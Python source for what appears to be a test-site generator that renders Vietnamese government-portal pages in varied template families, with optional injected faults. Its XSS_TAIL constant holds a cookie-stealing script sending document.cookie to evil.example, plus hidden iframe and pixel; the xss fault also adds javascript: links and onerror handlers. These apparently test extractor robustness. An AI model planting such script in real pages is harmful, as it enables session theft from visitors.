"""The engine every template family renders with: the page's parts, made once, arranged by the family.

A family subclasses `FamilyRenderer` and writes `document()` (the page around the content: head, banner, menu,
columns, footer) and `compose()` (the article region: where the headline, date line, lead, body, author,
attachments and chrome go, in which elements). Its randomised parameters (orders, positions, which of its
allowed forms) are drawn in `setup()` from the markup seed. Listings, sections and the home page are made from
the family's own `heading()`, list style and `document()`.

Whatever the family, the text a reader sees is the content's: the ground truth never depends on the family.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

from replica import hostile
from replica import vocabulary as V
from replica.content import CATEGORIES, CATEGORY, HOME, MAIN_HOST, Image, Page
from replica.markup import HTML, THEME, Renderer, category_href, encoded, image_src, make_variant

HTML_NO_CHARSET = "text/html"  # the header names no charset: the page's <meta> must be honest then
PLACEHOLDER_GIF = f"{THEME}/images/blank.gif"
LOADING_GIF = f"{THEME}/images/loading.gif"
DATA_GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
DATA_SVG = "data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20viewBox=%220%200%204%203%22%3E%3C/svg%3E"
SHORT_SITE = "Cổng TTĐT huyện Thọ Xuân"
XSS_TAIL = ('<script>alert("xss");fetch("https://evil.example/steal?c="+document.cookie)</script>'
            '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>'
            '<img src="https://evil.example/pixel.gif" width="1" height="1">')


@dataclass
class Ctx:
    """One page being rendered: the content, where it is served, and its fault."""

    page: Page
    host: str
    path: str
    others: list[Page]
    fault: str = ""

    @property
    def old(self) -> bool:
        return self.page.template == "old"

    def t(self, text: str) -> str:
        """Escaped page text, decomposed when the page is stored NFD."""
        return escape(unicodedata.normalize("NFD", text) if self.page.nfd else text)

    @property
    def url(self) -> str:
        return f"https://{self.host}{encoded(self.path)}"


class FamilyRenderer(Renderer):
    """Renders every kind of page of one site in one template family."""

    name = ""
    http_type = HTML  # Content-Type of the family's pages
    meta = "utf-8"  # see head()
    title_form = "after"  # see page_title()

    def __init__(self, seed: int, pages_by_id: dict[str, Page]):
        super().__init__(make_variant(0), pages_by_id)  # the base class's pieces (menu, links) keep variant 0
        self.seed = seed
        self.rng = random.Random(f"{self.name}:{seed}")
        self.setup(self.rng)

    def setup(self, rng: random.Random) -> None:
        """Draw the family's parameters from the markup seed."""

    def content_type(self, kind: str) -> str:
        return self.http_type

    # --- what a family writes ---------------------------------------------------------------------------

    def document(self, title: str, host: str, region: str, *, old: bool = False, year: int = 2025,
                 category: str = "", fault: str = "") -> str:
        raise NotImplementedError

    def compose(self, ctx: Ctx) -> str:
        raise NotImplementedError

    def heading(self, title: str) -> str:
        return f'<h2 class="title">{escape(title)}</h2>'

    # --- pages ----------------------------------------------------------------------------------------

    def article(self, page: Page, host: str, path: str, others: list[Page], fault: str = "") -> str:
        ctx = Ctx(page, host, path, others, fault)
        html = self.document(page.title, host, self.compose(ctx), old=ctx.old, year=page.published.year,
                             category=page.category, fault=fault)
        return self.with_faults(html, fault)

    def with_faults(self, html: str, fault: str) -> str:
        head = "".join(hostile.head_html(name) for name in fault.split("+") if name in hostile.HOSTILE_FAULTS)
        if head:  # first in the head, so that <base> applies to everything after it
            html = html.replace("<head>", "<head>" + head, 1)
        if fault == "malformed-html":
            html = (html.replace("</p>", "", 3).replace("</div>", "</div></span></td>", 2)
                    .replace(' class="', " class=", 1).replace("</body></html>", "<div><p>"))
        return html

    # --- the head -------------------------------------------------------------------------------------

    def page_title(self, title: str) -> str:
        forms = {"after": f"{title} - {SHORT_SITE}", "after-pipe": f"{title} | {V.SITE_TITLE}",
                 "before-pipe": f"{V.SITE_TITLE} | {title}", "before-colons": f"{SHORT_SITE} :: {title}",
                 "plain": title}
        return forms[self.title_form]

    def head(self, title: str, charset: str = "", fault: str = "") -> str:
        meta = "utf-8" if fault == "wrong-charset" else (charset or self.meta)  # a lie only where it stays readable
        metas = {"utf-8": '<meta charset="utf-8">',
                 "http-equiv": '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
                 "windows-1258": '<meta http-equiv="Content-Type" content="text/html; charset=windows-1258">',
                 "iso-8859-1": '<meta charset="iso-8859-1">'}
        return (f'<!DOCTYPE html>\n<html lang="vi"><head>{metas[meta]}'
                f"<title>{escape(self.page_title(title))}</title>"
                f'<link rel="stylesheet" href="{THEME}/css/main.css"><script src="{THEME}/js/main.js"></script></head>')

    # --- the body's blocks ----------------------------------------------------------------------------

    def blocks(self, ctx: Ctx, para, figure, spacer: str = "", indent: str = "&nbsp;" * 4) -> list[str]:
        """Body paragraphs (linked phrases, indentation, `&nbsp;`-only spacers) with each image after its paragraph.

        `para(inner, n)` and `figure(img)` are the family's elements; every other paragraph gets `indent`.
        """
        page = ctx.page
        links = {idx: (phrase, dest) for idx, phrase, dest in page.links}
        out = []
        for n, paragraph in enumerate(page.body):
            inner = ctx.t(paragraph)
            if n in links:
                phrase, dest = links[n]
                inner = inner.replace(ctx.t(phrase), f'<a href="{escape(self.link_to(dest, ctx.host))}">{ctx.t(phrase)}</a>', 1)
            if ctx.fault == "xss" and n == 0:
                inner += ' <a href="javascript:alert(document.domain)" onclick="alert(1)">xem thêm</a>'
            out.append(para(f"{indent}{inner}" if n % 2 else inner, n))
            if spacer and n % 3 == 1:
                out.append(spacer)
            for img, after in zip(page.images, page.image_after, strict=True):
                if after == n:
                    out.append(figure(img))
        out += [hostile.body_html(name) for name in ctx.fault.split("+") if name in hostile.HOSTILE_FAULTS]
        if ctx.fault == "xss":
            out.append(XSS_TAIL)
        return out

    def img(self, ctx: Ctx, img: Image, lazy: str = "", link: bool = False, cls: str = "") -> str:
        """The image as the family writes it: plain, or lazy-loaded behind a placeholder; wrapped in a link to the file.

        lazy: "" (src), "data-src" (a data: GIF in src), "data-original" (the theme's blank.gif in src), "srcset"
        (a data: SVG in src, the file in srcset), "noscript" (data-src, and the plain tag in <noscript>).
        """
        src = escape(image_src(img, ctx.host, ctx.path))
        alt = escape(img.path.rsplit("/", 1)[-1])
        extra = (' onerror="alert(\'xss\')"' if ctx.fault == "xss" else "") + (f' class="{cls}"' if cls else "")
        size = f'width="{img.size[0]}" height="{img.size[1]}"'
        if lazy == "data-src":
            tag = f'<img src="{DATA_GIF}" data-src="{src}" alt="{alt}"{extra} {size}>'
        elif lazy == "data-original":
            tag = f'<img src="{PLACEHOLDER_GIF}" data-original="{src}" alt="{alt}"{extra} {size}>'
        elif lazy == "srcset":
            # srcset splits on spaces: the file's name is written percent-encoded there
            listed = escape(quote(image_src(img, ctx.host, ctx.path), safe="/:%?=&@~-._()"))
            tag = (f'<img src="{DATA_SVG}" srcset="{listed} {img.size[0]}w" sizes="(max-width: {img.size[0]}px) '
                   f'100vw, {img.size[0]}px" alt="{alt}"{extra} {size}>')
        elif lazy == "noscript":
            tag = (f'<img src="{LOADING_GIF}" data-src="{src}" alt="{alt}"{extra} {size}>'
                   f'<noscript><img src="{src}" alt="{alt}"></noscript>')
        else:
            tag = f'<img src="{src}" alt="{alt}"{extra} {size}>'
        return f'<a href="{src}" target="_blank">{tag}</a>' if link else tag

    @staticmethod
    def caption(ctx: Ctx, img: Image, stop: bool = False) -> str:
        """The caption as printed: in parentheses for some images; `stop` adds a closing full stop to the others
        (the ground truth's caption never has one)."""
        text = ctx.t(img.caption)
        if img.parenthesised:
            return f"({text})"
        return f"{text}." if stop and not text.endswith(".") else text

    # --- links and lists shared by the families --------------------------------------------------------

    def other_href(self, page: Page, host: str, form: str) -> str:
        path = page.path_in(page.category, host)
        return {"http": f"http://{host}{encoded(path)}", "https": f"https://{host}{encoded(path)}",
                "root": encoded(path), "raw": path}[form]

    def crumbs(self, category: str, host: str) -> list[tuple[str, str]]:
        """(href, label) from the home page down to the category."""
        chain = []
        while category:
            chain.insert(0, (category_href(category, host), CATEGORY[category].label))
            category = CATEGORY[category].parent or ""
        return [(HOME, "Trang chủ"), *chain]

    def menu_items(self, host: str) -> list[tuple[str, str, list[tuple[str, str]]]]:
        """(href, label, children) of the main menu; the main host writes absolute links."""
        prefix = f"https://{MAIN_HOST}" if host == MAIN_HOST else ""
        items = [(f"{prefix}{HOME}", "Trang chủ", [])]
        for cat in CATEGORIES:
            if cat.parent or (host != MAIN_HOST and not cat.alias_path):
                continue
            children = [(f"{prefix}{category_href(c.path, host)}", c.label) for c in CATEGORIES if c.parent == cat.path]
            if cat.path == "tong-quan":
                children = [(f"{prefix}{category_href('tong-quan', host)}/{slug}", label)
                            for slug, label in V.STATIC_PAGES] + children
            items.append((f"{prefix}{category_href(cat.path, host)}", cat.label, children))
        return items

    def nav(self, host: str, style: str = "ul", cls: str = "nav") -> str:
        items = self.menu_items(host)
        link = lambda href, label: f'<a href="{escape(href)}">{escape(label)}</a>'  # noqa: E731
        if style == "table":
            cells = "".join(f"<td>{link(h, l)}</td>" for h, l, _ in items)
            subs = "".join(f"<td>{' | '.join(link(h, l) for h, l in kids)}</td>" for _, _, kids in items)
            return f'<table class="{cls}" cellspacing="0"><tr>{cells}</tr><tr>{subs}</tr></table>'
        if style == "div":
            return "".join(f'<div class="{cls}-item">{link(h, l)}<div class="{cls}-sub">'
                           + "".join(link(ch, cl) for ch, cl in kids) + "</div></div>" for h, l, kids in items)
        return (f'<ul class="{cls}">' + "".join(
            f"<li>{link(h, l)}" + (f"<ul>{''.join(f'<li>{link(ch, cl)}</li>' for ch, cl in kids)}</ul>" if kids else "")
            + "</li>" for h, l, kids in items) + "</ul>")

    def sidebar_links(self, host: str) -> list[tuple[str, str]]:
        from replica.content import ALIAS_HOST, PROVINCE_HOST
        other = ALIAS_HOST if host == MAIN_HOST else MAIN_HOST
        return [(f"https://{PROVINCE_HOST}/portal/Pages/default.aspx", "Cổng thông tin điện tử tỉnh Thanh Hóa"),
                (f"http://{other}{HOME}", f"Cổng thông tin {other}"), ("/c/portal/login", "Đăng nhập")]

    # --- listings, sections, home ----------------------------------------------------------------------

    list_style = "ul"  # "ul", "table", "media"
    list_dates = "paren"  # "paren" (dd/mm/yyyy), "dash" - dd/mm/yyyy, "label" Ngày đăng: dd/mm/yyyy
    list_lazy = ""

    def listed_date(self, p: Page) -> str:
        return {"paren": f"({p.published:%d/%m/%Y})", "dash": f"- {p.published:%d/%m/%Y}",
                "label": f"Ngày đăng: {p.published:%d/%m/%Y}"}[self.list_dates]

    def list_rows(self, host: str, path: str, items: list[tuple[str, Page]], summary: bool = True) -> str:
        rows = []
        for href, p in items:
            a = f'<a href="{escape(href)}">{escape(p.title)}</a>'
            date = escape(self.listed_date(p))
            if self.list_style == "table":
                rows.append(f'<tr><td class="date">{date}</td><td>{a}</td></tr>')
            elif self.list_style == "media":
                thumb = ""
                if p.images and not p.images[0].broken:
                    ctx = Ctx(p, host, path, [])
                    thumb = f'<div class="thumb"><a href="{escape(href)}">{self.img(ctx, p.images[0], self.list_lazy)}</a></div>'
                lead = f'<div class="summary">{escape(p.lead)}</div>' if summary and p.lead else ""
                rows.append(f'<div class="media">{thumb}<div class="media-body"><h3>{a}</h3>'
                            f'<span class="date">{date}</span>{lead}</div></div>')
            else:
                rows.append(f'<li>{a} <span class="date">{date}</span></li>')
        if self.list_style == "table":
            return f'<table class="list" width="100%">{"".join(rows)}</table>'
        if self.list_style == "media":
            return f'<div class="list">{"".join(rows)}</div>'
        return f'<ul class="list">{"".join(rows)}</ul>'

    def pager(self, path: str, page_no: int, pages: int) -> str:
        if pages <= 1:
            return ""
        link = lambda n, text: f'<a href="{escape(path)}?page={n}">{text}</a>'  # noqa: E731
        numbers = [link(n, n) if n != page_no else f"<b>{n}</b>"
                   for n in range(max(1, page_no - 3), min(pages, page_no + 3) + 1)]
        before = [link(1, "Đầu"), link(page_no - 1, "Trước")] if page_no > 1 else []
        after = [link(page_no + 1, "Sau"), link(pages, "Cuối")] if page_no < pages else []
        return f'<div class="pager">Trang: {" ".join(before + numbers + after)}</div>'

    def listing(self, title: str, host: str, path: str, items: list[tuple[str, Page]], page_no: int, pages: int) -> str:
        region = self.heading(title) + self.list_rows(host, path, items) + (self.pager(path, page_no, pages) if items else "")
        category = next((c.path for c in CATEGORIES if category_href(c.path, host) == path), "")
        return self.document(title, host, region, category=category)

    def section(self, title: str, host: str, links: list[tuple[str, str]], intro: str = "") -> str:
        items = "".join(f'<li><a href="{escape(href)}">{escape(label)}</a></li>' for href, label in links)
        region = self.heading(title) + (f"<p>{escape(intro)}</p>" if intro else "") + f'<ul class="links">{items}</ul>'
        return self.document(title, host, region)

    def home(self, host: str, blocks: list[tuple[str, str, list[tuple[str, Page]]]]) -> str:
        html = []
        for title, more, items in blocks:
            html.append(f'<div class="block">{self.heading(title)}{self.list_rows(host, HOME, items, summary=False)}'
                        f'<a class="more" href="{escape(more)}">Xem tiếp</a></div>')
        return self.document("Trang chủ", host, "".join(html))
